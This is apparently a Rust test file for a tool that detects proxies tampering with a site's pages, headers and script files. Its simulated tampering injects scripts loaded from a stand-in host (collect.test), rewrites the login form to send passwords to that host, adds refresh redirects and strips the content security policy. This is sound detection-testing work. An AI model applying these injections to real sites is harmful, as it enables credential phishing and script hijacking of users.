//! Changes to pages and files, by proxies that inject, optimise or phish.

use super::{
    all_are_found_at_once, each_is_found,
    message::{Inbound, Tamper},
    tampering::{Break, breaks},
};
use crate::support::http::Answer;

/// Not the host that the doctor itself uses.
const ELSEWHERE: &str = "https://collect.test";

fn nonce_of(answer: &Answer) -> String {
    let policy = answer.header("content-security-policy").unwrap_or_default();
    let nonce = policy.split("'nonce-").nth(1).unwrap_or_default();
    nonce.split('\'').next().unwrap_or_default().to_owned()
}

/// Inserts markup into the pages of one path, with their nonce at `NONCE`.
fn puts(
    what: &'static str,
    found_by: &'static [&'static str],
    path: &'static str,
    [before, after]: [&'static str; 2],
) -> Break {
    breaks(what, found_by).answering(move |inbound, answer| {
        if inbound.path() == path && answer.is_page() {
            let after = after.replace("NONCE", &nonce_of(answer));
            answer.replace_body(before, &after);
        }
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn inserted_scripts_are_found() {
    const INLINE: [&str; 2] = ["</head>", "<script nonce=NONCE>collect()</script></head>"];
    const FOREIGN: [&str; 2] = [
        "</head>",
        "<script nonce=NONCE src=\"https://collect.test/x.js\"></script></head>",
    ];
    const BEHIND_OURS: [&str; 2] = [
        "__INCOMPLETE_CHUNKS=[];",
        "__INCOMPLETE_CHUNKS=[];collect();",
    ];
    const OWN_PATH: [&str; 2] = [
        "</head>",
        "<script nonce=NONCE src=/cdn-cgi/loader.js></script></head>",
    ];
    let script: &[&str] = &["known_scripts"];
    let all = vec![
        puts("adds a script with the nonce", script, "/login", INLINE),
        puts("adds one to private pages", script, "/dashboard", INLINE),
        puts(
            "adds code to a script of ours",
            script,
            "/logout",
            BEHIND_OURS,
        ),
        puts("adds a script of a CDN", script, "/signed-out", OWN_PATH),
        puts(
            "adds a foreign script",
            &["known_scripts", "pages_refer_to_this_site"],
            "/account/profile",
            FOREIGN,
        ),
    ];
    each_is_found(all).await;
}

fn is_file(inbound: &Inbound, end: &str) -> bool {
    inbound.target.starts_with("/pkg/") && inbound.target.ends_with(end)
}

#[tokio::test(flavor = "multi_thread")]
async fn changed_links_are_found() {
    let all = vec![
        breaks("leads on by a header", &["no_refresh"]).answering(|inbound, answer| {
            if inbound.is("GET", "/login") {
                answer.set("refresh", "9; url=https://collect.test/");
            }
        }),
        puts(
            "changes where the password goes",
            &["forms_lead_here"],
            "/login",
            [
                "action=\"/api/login\"",
                "action=\"https://collect.test/api/login\"",
            ],
        ),
        breaks("adds code to a script file", &["files_as_built"]).answering(|inbound, answer| {
            if is_file(inbound, ".js") {
                answer.body.extend(b";collect()");
            }
        }),
        puts(
            "adds code that runs by itself",
            &["no_inline_code"],
            "/logout",
            ["<main", "<main OnFocus=collect() autofocus"],
        ),
        puts(
            "loads a foreign script ahead",
            &["pages_refer_to_this_site"],
            "/signed-out",
            [
                "</head>",
                "<link rel=preload as=script href=https://collect.test/x.js></head>",
            ],
        ),
        breaks("asks for a foreign script by Link", &["links_lead_here"]).answering(
            |inbound, answer| {
                if inbound.is("GET", "/dashboard") {
                    let link = format!("<{ELSEWHERE}/x.js>; rel=preload; as=script");
                    answer.add("link", &link);
                }
            },
        ),
        breaks("lets a worker in", &["no_service_worker_allowed"]).answering(|inbound, answer| {
            if is_file(inbound, ".js") {
                answer.set("service-worker-allowed", "/");
            }
        }),
        breaks("answers preflights", &["api_no_cors", "no_cors_preflight"]).answering(
            |inbound, answer| {
                if inbound.method == "OPTIONS" {
                    answer.set("access-control-allow-origin", "*");
                }
            },
        ),
    ];
    all_are_found_at_once(all).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_refresh_in_a_page_and_a_form_for_another_function_are_found() {
    let all = vec![
        puts(
            "leads on by a page",
            &["no_refresh"],
            "/logout",
            [
                "</head>",
                "<meta http-equiv=\"Refresh\" content=\"9;url=https://collect.test\"></head>",
            ],
        ),
        puts(
            "sends the password to another function",
            &["forms_lead_here"],
            "/login",
            ["action=\"/api/login\"", "action=\"/api/collect\""],
        ),
        breaks(
            "forgets the policy of one page",
            &[
                "policy_default",
                "policy_base",
                "policy_forms",
                "frame_ancestors",
                "policy_scripts",
                "nonce_long",
                "nonce_on_scripts",
            ],
        )
        .answering(|inbound, answer| {
            if inbound.path() == "/password-link" {
                answer.remove("content-security-policy");
            }
        }),
        breaks(
            "adds code to a script of private pages",
            &["files_as_built"],
        )
        .answering(|inbound, answer| {
            if inbound.path() == "/time-out.js" {
                answer.body.extend(b";collect()");
            }
        }),
        breaks("lets pages be changed", &["no_transform"]).answering(|inbound, answer| {
            if inbound.is("GET", "/dashboard") {
                answer.replace("cache-control", ", no-transform", "");
            }
        }),
    ];
    all_are_found_at_once(all).await;
}

/// Changes by optimisers, translators and minifiers that do not update digests.
#[tokio::test(flavor = "multi_thread")]
async fn pages_that_were_rewritten_are_found() {
    let rewrites = |what, change: fn(&str) -> String| {
        breaks(what, &["pages_as_sent"])
            .answering(move |_, answer| {
                if answer.is_page() {
                    answer.body = change(&answer.text()).into_bytes();
                }
            })
            .forgetting_the_digest()
    };
    let all = vec![
        rewrites("takes comments out", |html| html.replace("<!---->", "")),
        rewrites("puts an element in", |html| {
            html.replace("<main ", "<div></div><main ")
        }),
        rewrites("wraps a text", |html| {
            html.replace("Skip to content", "<font>Skip to content</font>")
        }),
    ];
    each_is_found(all).await;
    let loses = breaks("loses the digest", &["pages_as_sent"]).answering(|inbound, answer| {
        if inbound.is("GET", "/signed-out") {
            answer.remove("repr-digest");
        }
    });
    each_is_found(vec![loses]).await;
}

/// Two policies break pages, which is found; a finding that refusals differ would be false.
#[tokio::test(flavor = "multi_thread")]
async fn a_second_policy_causes_no_false_finding() {
    let found_by = &[
        "policy_default",
        "policy_base",
        "policy_forms",
        "frame_ancestors",
        "policy_scripts",
        "nonce_long",
        "nonce_on_scripts",
        "failures_run_nothing",
    ];
    let adds = breaks("adds a policy", found_by).after(|_, answer, memory| {
        memory.count += 1;
        let policy = format!("script-src 'nonce-{:032}'", memory.count);
        answer.add("content-security-policy", &policy);
        if answer.is_page() {
            let own = nonce_of(answer);
            answer.replace_body(&own, &format!("{:032}", memory.count));
        }
    });
    each_is_found(vec![adds]).await;
}
